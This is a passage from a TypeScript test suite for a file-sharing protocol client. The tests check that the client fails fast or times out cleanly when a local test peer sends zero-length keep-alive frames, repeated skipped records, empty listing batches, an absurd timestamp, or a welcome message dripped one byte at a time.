      (conn, world) => download(conn, 'ws/d', world.ws),
      ['ws/d*'],
    ],
  ];
  // v1 let zero-length data frames through and ran to the deadline; a v2 DATA frame carries at
  // least one byte (spec 3.3), so such a keep-alive ends the connection at once.
  for (const [name, scenario] of [
    ['zero-length data frames as keep-alives after a read request', fileScenario(BIG, (_, reply) => every(reply, 50, () => reply.raw(ZERO_DATA_V2(READ_ID))))],
    [
      'zero-length data frames in the middle of a file',
      fileScenario(BIG, async (_, reply) => {
        await reply.data(Buffer.alloc(1000, 3));
        return every(reply, 50, () => reply.raw(ZERO_DATA_V2(READ_ID)));
      }),
    ],
  ] as const) {
    it(`${name}: PROTOCOL_ERROR before the deadline, nothing under the final name`, async () => {
      const run = await against(scenario, (conn, world) => download(conn, 'ws/f.txt', world.ws), { limits, capMs: deadlineMs + SLACK_MS });
      assertOutcome(run, 'PROTOCOL_ERROR');
      assert.ok(run.ms < deadlineMs + SLACK_MS, `ended after ${run.ms} ms`);
      assert.equal(existsSync(path.join(run.world.ws, 'f.txt')), false);
      assertOnlyChanged(run.before, await run.world.snapshot(), ['ws/.f.txt.*']);
    });
  }

  for (const [name, scenario, action, mayChange] of cases) {
    it(`${name}: TIMEOUT within the deadline, nothing under the final name`, async () => {
      const run = await against(scenario, action, { limits, capMs: deadlineMs + SLACK_MS });
      assertTimedOut(run);
      assert.equal(existsSync(path.join(run.world.ws, 'f.txt')), false);
      assertOnlyChanged(run.before, await run.world.snapshot(), mayChange);
    });
  }

  // Found by the outside review of this round: a repeated skipped record counted as progress.
  it('the same skipped record again and again: PROTOCOL_ERROR at the second, at once', async () => {
    const run = await against(
      treeScenario((reply) => every(reply, 50, () => reply.message({ type: 'skipped', path: 'gone.txt', code: 'NOT_FOUND', message: 'x' }))),
      (conn, world) => download(conn, 'ws/d', world.ws),
      { limits, capMs: deadlineMs + SLACK_MS },
    );
    // Before, each repeat counted as progress and the download ran to its overall deadline (TIMEOUT).
    assertOutcome(run, 'PROTOCOL_ERROR');
  });

  it('empty listing batches (keep-alives a listing may not carry): PROTOCOL_ERROR at the first, at once', async () => {
    const run = await against((_, reply) => every(reply, 50, () => reply.message({ type: 'entries', entries: [] })), (conn) => conn.list('ws'), { limits, capMs: deadlineMs + SLACK_MS });
    // v1 ran these to the deadline (TIMEOUT); share/1 batches hold 1..listBatchEntries entries (spec 6.3).
    assertOutcome(run, 'PROTOCOL_ERROR');
    assert.ok(run.ms < deadlineMs, `ended after ${run.ms} ms`);
  });

  it('a listing entry with a time outside any calendar (1e300): PROTOCOL_ERROR, not an internal error', async () => {
    const run = await against(
      async (_, reply) => {
        await reply.message({ type: 'entries', entries: [{ name: 'when', type: 'file', size: 1, mtimeMs: 1e300 }] });
        return { count: 1 };
      },
      (conn) => conn.list('ws'),
      { limits },
    );
    assertOutcome(run, 'PROTOCOL_ERROR');
  });

  /** A TLS acceptor that answers the hello by calling `answer` every 50 ms; connects to it. */
  async function helloAgainst(answer: (socket: tls.TLSSocket) => void): Promise<{ outcome: string; ms: number }> {
    const victim = await makePeer();
    const hostile = (await makePeer()).identity;
    const sockets = new Set<tls.TLSSocket>();
    const server = tls.createServer({ key: hostile.keyPem, cert: hostile.certPem, requestCert: true, rejectUnauthorized: false, minVersion: 'TLSv1.3' }, (socket) => {
      sockets.add(socket);
      socket.on('error', () => socket.destroy());
      const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : answer(socket)), 50);
      socket.on('close', () => clearInterval(timer));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const address = `127.0.0.1:${(server.address() as net.AddressInfo).port}`;
    const started = Date.now();
    let cap: NodeJS.Timeout | undefined;
    try {
      await Promise.race([
        connectToPeer({ identity: victim.identity, trust: victim.trust, addresses: [address], expectedPeerId: hostile.peerId, name: 'victim', limits }),
        new Promise((_, reject) => (cap = setTimeout(() => reject(Object.assign(new Error('still waiting: a hang'), { code: 'HANG' })), 600 + SLACK_MS))),
      ]);
      return { outcome: 'ok', ms: Date.now() - started };
    } catch (err) {
      return { outcome: (err as { code?: string }).code ?? String(err), ms: Date.now() - started };
    } finally {
      clearTimeout(cap);
      for (const s of sockets) s.destroy();
      server.close();
    }
  }

  it('a hello answered only with zero-length data frames: PROTOCOL_ERROR at the first (no DATA frame in a v2 handshake), within the hello deadline', async () => {
    // v1 took these as keep-alives until the hello deadline (TIMEOUT); the v2 handshake has message frames only (spec 3.1).
    const { outcome, ms } = await helloAgainst((socket) => socket.write(ZERO_DATA));
    assert.equal(outcome, 'PROTOCOL_ERROR');
    assert.ok(ms < 600 + SLACK_MS, `ended after ${ms} ms`);
  });

  it('a welcome dripped one byte at a time (a keep-alive below the message layer): TIMEOUT within the hello deadline', async () => {
    const welcome = encodeMessage({ type: 'welcome', version: 2, name: 'slow', id: 'x', caps: {}, frame: 65536, window: 1 << 20, requests: 16, paired: false, pad: 'p'.repeat(10_000) });
    let i = 0;
    const { outcome, ms } = await helloAgainst((socket) => i < welcome.length && socket.write(welcome.subarray(i, ++i)));
    assert.equal(outcome, 'TIMEOUT');
    assert.ok(ms < 600 + SLACK_MS, `ended after ${ms} ms`);
  });
});
